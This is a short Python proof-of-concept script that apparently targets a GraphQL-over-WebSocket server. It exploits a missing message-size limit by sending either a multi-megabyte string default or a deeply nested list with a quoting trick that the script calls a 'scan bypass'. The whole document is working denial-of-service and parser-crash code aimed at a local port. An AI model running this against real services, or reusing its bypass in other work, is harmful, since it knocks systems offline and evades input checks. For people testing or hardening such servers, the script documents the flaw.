# Over WebSocket there is no ENVAGIN_MAX_BODY_BYTES: one message of up to 64 MB is parsed.
# usage: python3 ws_big.py MB [kind] [port]   kind: string | crash (scan bypass, deep list)
import asyncio, json, sys, time, websockets
mb = float(sys.argv[1]); kind = sys.argv[2] if len(sys.argv) > 2 else "string"; port = sys.argv[3] if len(sys.argv) > 3 else "18090"
if kind == "string":
    q = 'query($s: String = "' + "a" * int(mb * 1e6) + '") { __typename }'
else:
    d = int(sys.argv[4]) if len(sys.argv) > 4 else 5000
    q = 'query q($s: String = """\\"""" """, $a: [Int] = ' + "[" * d + "]" * d + "){__typename}"
async def main():
    async with websockets.connect(f"ws://127.0.0.1:{port}/graphql/ws", subprotocols=["graphql-transport-ws"], max_size=None) as ws:
        await ws.send(json.dumps({"type": "connection_init", "payload": {}})); await ws.recv()
        t = time.time()
        await ws.send(json.dumps({"id": "1", "type": "subscribe", "payload": {"query": q}}))
        try: m = await asyncio.wait_for(ws.recv(), 60); print(f"{len(q)} chars, {time.time()-t:.2f}s:", m[:200])
        except Exception as e: print(f"{len(q)} chars, {time.time()-t:.2f}s:", type(e).__name__, e)
asyncio.run(main())
